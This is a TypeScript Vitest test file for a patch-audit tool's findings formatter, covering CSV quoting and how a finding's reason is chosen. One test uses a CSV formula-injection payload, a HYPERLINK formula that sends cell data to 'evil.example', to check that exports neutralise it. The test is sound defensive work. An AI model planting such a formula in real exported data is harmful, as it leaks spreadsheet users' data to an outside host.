import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Evidence, Finding } from '../detect/model.js';
import { findingReason, formatFindings } from './findings-format.js';

const finding = (over: Partial<Finding> = {}): Finding => ({
  machine: 'web-01',
  bulletin: 'DSA-1',
  package: 'apt',
  status: 'missing',
  severity: 'critical',
  title: 'apt security update',
  cves: ['CVE-2024-1', 'CVE-2024-2'],
  kbs: [],
  evidence: [
    {
      ref: 'oval:1',
      subject: 'dpkg package apt',
      expected: 'version less than 2.6.1',
      actual: '2.6.0',
      result: 'true',
      message: 'apt 2.6.0 is earlier than 2.6.1',
    },
  ],
  warnings: [],
  ...over,
});

describe('formatFindings csv', () => {
  it('one record per finding under the header, CRLF record ends', () => {
    const out = formatFindings([finding(), finding({ machine: 'db, "main"' })], 'csv', { verbose: false });
    expect(out.startsWith('machine,bulletin,package,status,severity,title,cves,kbs,reason,catalog\r\n')).toBe(true);
    expect(parse(out)).toEqual([
      ['machine', 'bulletin', 'package', 'status', 'severity', 'title', 'cves', 'kbs', 'reason', 'catalog'],
      [
        'web-01',
        'DSA-1',
        'apt',
        'missing',
        'critical',
        'apt security update',
        'CVE-2024-1 CVE-2024-2',
        '',
        'apt 2.6.0 is earlier than 2.6.1',
        '',
      ],
      [
        'db, "main"',
        'DSA-1',
        'apt',
        'missing',
        'critical',
        'apt security update',
        'CVE-2024-1 CVE-2024-2',
        '',
        'apt 2.6.0 is earlier than 2.6.1',
        '',
      ],
    ]);
  });

  it('a hostile bulletin title from a feed is text, not a formula', () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const [, row] = parse(formatFindings([finding({ title })], 'csv', { verbose: false }));
    expect(row![5]).toBe(`'${title}`);
  });
});
const base: Finding = {
  machine: 'm',
  bulletin: 'B',
  status: 'missing',
  severity: 'important',
  title: 't',
  cves: [],
  kbs: [],
  evidence: [],
  warnings: [],
};
const comparison: Evidence = {
  ref: 'tst:1',
  subject: 'dpkg package apt',
  expected: 'evr less than 2.6.2',
  actual: '2.6.1',
  result: 'true',
  message: 'apt 2.6.1 is not earlier than the fixed 2.6.0',
};
const notCollected: Evidence = {
  ref: 'tst:2',
  subject: '/etc/lsb-release matching ^DISTRIB',
  actual: 'not collected',
  result: 'unknown',
  message: '/etc/lsb-release matching ^DISTRIB: file /etc/lsb-release was not collected',
};

describe('findingReason', () => {
  it.each([
    ['missing: the deciding comparison', { ...base, evidence: [notCollected, comparison] }, comparison.message],
    [
      'unknown: the fact that was not collected, not the comparison',
      { ...base, status: 'unknown', evidence: [notCollected, comparison] },
      `not collected: ${notCollected.message}`,
    ],
    [
      'unknown: an unsupported test',
      {
        ...base,
        status: 'unknown',
        evidence: [
          comparison,
          {
            ...notCollected,
            actual: 'not supported',
            message: 'wmi57 x: test type wmi57 is not supported by Patchhive',
          },
        ],
      },
      'not supported: wmi57 x: test type wmi57 is not supported by Patchhive',
    ],
    [
      'unknown: the package list missing',
      {
        ...base,
        status: 'unknown',
        evidence: [{ ...notCollected, message: 'dpkg package apt: the package list was not collected' }],
      },
      'not collected: dpkg package apt: the package list was not collected',
    ],
    [
      'unknown without an undecided test: no fix yet',
      {
        ...base,
        status: 'unknown',
        evidence: [{ ref: 'f', subject: 'apt', result: 'true', message: 'no fix is available yet for apt' }],
      },
      'no fix is available yet for apt',
    ],
    ['nothing: the first warning', { ...base, warnings: ['w'] }, 'w'],
  ] as [string, Finding, string][])('%s', (_name, f, want) => {
    expect(findingReason(f)).toBe(want);
  });
});
